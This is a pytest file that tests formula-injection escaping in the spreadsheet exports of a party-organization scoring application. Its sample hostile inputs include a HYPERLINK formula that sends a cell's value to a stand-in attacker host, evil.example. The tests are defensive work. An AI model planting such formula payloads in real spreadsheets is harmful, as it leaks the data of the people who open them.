"""Formula escaping in every spreadsheet export: text read back is text, numbers stay numbers."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kaoping.core.spreadsheet_safety import safe_row, safe_text, unescape_text
from kaoping.orgs.interfaces.roster.columns import text_of
from kaoping.orgs.interfaces.roster.writer import export_rows, render_workbook
from kaoping.reports.domain.dashboards import Table
from kaoping.reports.interfaces.xlsx import write_table
from kaoping.reports.views_dashboards import xlsx_response
from kaoping.scoring.workbook import read_workbook, write_template
from tests.factories import OrganizationFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1", "@SUM(A1:A9)", "-2+3",
           "\tx", "\r=1"]  # fmt: skip
# A carriage return comes back from xlsx as a line feed, so the round trips leave that one out.
EXPORTED = HOSTILE[:-1]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_text_quotes_formula_starts(text):
    assert safe_text(text) == "'" + text
    assert unescape_text(safe_text(text)) == text


@pytest.mark.parametrize("value", ["白沙村党支部", "1+1", "a=b", "'quoted", "", None, 5, -3,
                                   2.5, Decimal("-1.5"), True])  # fmt: skip
def test_safe_text_leaves_other_values_alone(value):
    assert safe_text(value) == value
    assert unescape_text(value) == value


def test_unescape_keeps_an_apostrophe_that_is_not_ours():
    assert unescape_text("'白沙村") == "'白沙村"


def test_safe_row_numbers_stay_numbers():
    assert safe_row(["=1+1", -4, Decimal("2.5")]) == ["'=1+1", -4, Decimal("2.5")]


def _cells(content: bytes, sheet=None):
    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_text_not_formula(cells, text):
    (cell,) = [c for c in cells if c.value == "'" + text]
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)


def test_table_export_writes_hostile_text_as_text_and_numbers_as_numbers():
    out = io.BytesIO()
    rows = [[name, 91.5, -3, 1] for name in EXPORTED]

    write_table(out, sheet="排名", title="=考评", groups=[], header=["党组织", "得分", "扣分", "名次"],
                rows=iter(rows))  # fmt: skip

    cells = _cells(out.getvalue())
    for name in EXPORTED:
        _assert_text_not_formula(cells, name)
    _assert_text_not_formula(cells, "=考评")
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert numbers == [91.5, -3, 1] * len(EXPORTED)


def test_dashboard_table_download_escapes_text():
    table = Table(columns=["党组织", "得分"], rows=[["@SUM(A1:A9)", Decimal("88.5")], ["+1", 70]])

    response = xlsx_response("排名", table, "ranking")

    cells = _cells(response.content)
    _assert_text_not_formula(cells, "@SUM(A1:A9)")
    _assert_text_not_formula(cells, "+1")
    assert [c.value for c in cells if c.data_type == "n"] == [88.5, 70]


def test_roster_export_escapes_names_and_reads_them_back_unchanged(tree):
    hostile = OrganizationFactory(name="=HYPERLINK(\"http://x\")", kind="village",
                                  parent=tree["county_a"])  # fmt: skip
    hostile.phone = "+8613812341234"
    hostile.save()

    content = render_workbook(export_rows(tree["city_a"]), title="名册")

    cells = _cells(content)
    _assert_text_not_formula(cells, hostile.name)
    _assert_text_not_formula(cells, "+8613812341234")
    assert text_of("'" + hostile.name) == hostile.name


def test_paper_sheet_names_escaped_and_read_back(tmp_path):
    from tests.scoring.test_workbook import all_kinds_rubric

    rubric = all_kinds_rubric()
    path = tmp_path / "blank.xlsx"

    write_template(rubric, path, organization="=1+1", rater="@张三")

    ws = load_workbook(path).worksheets[0]
    assert ws["C2"].value == "'=1+1" and ws["C2"].data_type == "s"
    assert ws["G2"].value == "'@张三"
    sheets, _ = read_workbook(rubric, path)
    assert (sheets[0].organization, sheets[0].rater) == ("=1+1", "@张三")


def test_rectification_ledgers_escape_names_and_keep_scores_numeric():
    import datetime as dt

    from kaoping.rectification.interfaces.ledgers import compliance_xlsx

    content = compliance_xlsx(unit="-某县", day=dt.date(2026, 5, 1), campaign_name="=考评",
                              compliant=[("=HYPERLINK(1)", "+上级", 91.5, "达标", "", 0)],
                              failing=[])  # fmt: skip

    cells = _cells(content, "达标党组织台账")
    _assert_text_not_formula(cells, "=HYPERLINK(1)")
    _assert_text_not_formula(cells, "+上级")
    _assert_text_not_formula(cells, "=考评达标党组织台账")
    assert [c.value for c in cells if c.data_type == "n"] == [91.5, 0]
